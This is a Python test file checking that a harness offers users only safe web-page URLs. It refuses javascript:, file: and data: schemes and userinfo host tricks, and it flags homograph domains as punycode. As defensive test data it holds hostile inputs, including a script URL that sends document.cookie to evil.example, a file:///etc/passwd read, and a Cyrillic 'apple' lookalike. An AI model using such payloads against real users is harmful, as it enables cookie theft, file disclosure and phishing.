"""URL-mode elicitation offers web pages only, with the host shown apart (harness.pages, s33's Asker.visit).

``javascript:``, ``file:///etc/passwd`` and ``data:`` URLs are declined without asking the
user; a lookalike host (a Cyrillic letter among Latin ones) is shown in its punycode form,
read as what it imitates, and named.
"""

from __future__ import annotations

import anyio
import pytest

from harness import elicit, pages
from harness.transcript import Transcript


@pytest.mark.parametrize(("url", "why"), [
    ("javascript:alert(document.cookie)", "'javascript:' is not a web page (only https, or http on this machine, is offered)"),
    ("file:///etc/passwd", "'file:' is not a web page (only https, or http on this machine, is offered)"),
    ("data:text/html;base64,PHNjcmlwdD4=", "'data:' is not a web page (only https, or http on this machine, is offered)"),
    ("http://login.example.com/", "http is offered only for this machine (localhost, 127.0.0.1, ::1); anything else must be https"),
    ("https://bank.example.com@evil.example/", "it has userinfo before an @, which hides the host it leads to"),
    ("https://evil.example/\x1b[2Jok", "it holds a space or a control character"),
    ("https:///path-only", "it names no host"),
])
def test_only_a_web_page_is_offered(url, why):
    with pytest.raises(pages.Refused) as info:
        pages.check(url)
    assert str(info.value) == why


def test_a_lookalike_host_is_shown_as_punycode_read_as_what_it_imitates_and_named():
    page = pages.check("https://\u0430pple.com/signin?next=1")  # a Cyrillic а, then Latin pple
    assert page.shown() == ("https://xn--pple-43d.com/signin?next=1 (host xn--pple-43d.com, read as \u0430pple.com: its label "
                            "'\u0430pple' mixes Cyrillic and Latin letters, and may imitate another host)"), page.shown()
    plain = pages.check("https://accounts.example.com/link?code=1")
    assert plain.shown() == "https://accounts.example.com/link?code=1 (host accounts.example.com)"
    assert pages.check("http://localhost:8080/cb").shown() == "http://localhost:8080/cb (host localhost)"


def test_a_refused_url_is_declined_without_asking_and_the_transcript_says_why():
    transcript = Transcript()
    asker = elicit.Asker(elicit.Script(["done", "done"]), transcript)

    async def main():
        refused = await asker.visit("desk", "Link your account.", "javascript:fetch('//evil.example/'+document.cookie)")
        offered = await asker.visit("desk", "Link your account.", "https://desk.example.com/link")
        return refused, offered

    assert anyio.run(main) == (False, True), "the refused URL is declined; the https one is offered and done"
    said = [(e["detail"], e["answer"]) for e in transcript.events if e["kind"] == "elicit"]
    assert said == [("not offered: javascript:fetch('//evil.example/'+document.cookie): 'javascript:' is not a web page "
                     "(only https, or http on this machine, is offered)", "declined"),
                    ("open https://desk.example.com/link (host desk.example.com)", "done")], said
    assert asker.script.next_answer() == "done", "the refused URL must not use up the user's answer"
